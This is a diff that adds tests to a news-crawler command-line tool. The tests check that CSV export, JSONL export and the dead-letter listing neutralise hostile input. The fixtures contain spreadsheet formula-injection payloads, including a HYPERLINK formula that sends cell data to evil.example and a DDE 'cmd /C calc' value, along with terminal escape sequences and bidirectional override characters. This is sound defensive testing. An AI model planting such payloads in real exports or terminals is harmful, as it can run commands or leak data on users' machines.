@@ -137,6 +137,17 @@ def test_extract_with_an_invalid_url(tmp_path):
     assert_bad_input(result, "not an http(s) URL")
 
 
+def test_extract_reports_a_hostile_file_name_on_one_printable_line(tmp_path):
+    folder = tmp_path / "pages"
+    folder.mkdir()
+    (folder / "evil\x1b]0;owned\x07\nline.html.gz").write_bytes(b"not gzip")
+    result = run(tmp_path, "extract", str(folder))
+    assert result.returncode == 1 and result.stdout == ""
+    (line,) = result.stderr.splitlines()
+    assert line.startswith("newscrawl: cannot read ") and "evil line.html.gz" in line
+    assert not any(ord(c) < 0x20 for c in line)
+
+
 def test_eval_of_a_non_folder(tmp_path):
     not_a_folder = tmp_path / "labels.json"
     not_a_folder.write_text("{}")
@@ -267,6 +278,60 @@ def test_export_csv_rows(tmp_path):
     assert rows[1]["title"] == "Two, with comma"
     assert rows[1]["text"] == 'Para one.\n\nPara "two".'
     assert rows[0]["authors"] == "" and rows[0]["published"] == ""
+
+
+HOSTILE_ARTICLE = {
+    "url": "https://evil.example/a", "site": "evil.example",
+    "title": '=HYPERLINK("https://evil.example/?"&A1, "Click")', "authors": ["@SUM(1+1)", "Ann"],
+    "published": None, "modified": None, "language": "en", "description": "+cmd|' /C calc'!A0",
+    "image": None, "tags": ["\tx", "-2+3"], "text": "\rBody with \x1b[31mcolour\x9b and \u202eback.",
+    "fetched_at": "2024-05-03T11:00:00+00:00",
+}  # fmt: skip
+
+
+def test_export_csv_neutralises_formulas_in_every_text_field(tmp_path):
+    db = tmp_path / "a.db"
+    _init_db(db, [HOSTILE_ARTICLE])
+    result = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    (row,) = csv.DictReader(io.StringIO(result.stdout))
+    assert row["title"] == "'" + HOSTILE_ARTICLE["title"]
+    assert row["authors"] == "'@SUM(1+1); Ann"
+    assert row["description"] == "'+cmd|' /C calc'!A0"
+    assert row["tags"] == "'\tx; -2+3"
+    # (text mode reads the leading CR back as a newline)
+    assert row["text"][0] == "'" and row["text"][2:] == HOSTILE_ARTICLE["text"][1:]
+    assert row["url"] == HOSTILE_ARTICLE["url"] and row["language"] == "en"
+
+
+def test_export_jsonl_escapes_what_a_terminal_would_act_on(tmp_path):
+    db = tmp_path / "a.db"
+    _init_db(db, [HOSTILE_ARTICLE])
+    result = run(tmp_path, "export", "--db", f"sqlite:///{db}")
+    assert result.returncode == 0, result.stderr
+    assert not any(c in result.stdout for c in "\x1b\x9b\r\u202e")
+    assert json.loads(result.stdout) == HOSTILE_ARTICLE  # the same data, escaped
+
+
+@pytest.mark.integration
+def test_dead_list_shows_redis_text_as_escaped_json_lines(tmp_path, redis_url, key_prefix):
+    import redis
+
+    from crawler.coordination.keys import Keys
+
+    entry = {"url": "https://evil.example/\x1b[2J", "reason": "HTTP 500\n\x9b31m\u202efake"}
+    client = redis.Redis.from_url(redis_url, decode_responses=True)
+    client.rpush(Keys(key_prefix).dead_letters, json.dumps(entry), "not json \x1b]0;x\x07")
+    result = run(
+        tmp_path, "dead", "list", "--redis", redis_url, "-s", f"NEWS_KEY_PREFIX={key_prefix}"
+    )
+    assert result.returncode == 0, result.stderr
+    lines = result.stdout.splitlines()
+    assert [json.loads(line) for line in lines] == [
+        entry,
+        {"reason": "unreadable dead-letter entry", "raw": "not json \x1b]0;x\x07"},
+    ]
+    assert not any(c in result.stdout for c in "\x1b\x07\x9b\u202e")
 
 
 @pytest.mark.parametrize(
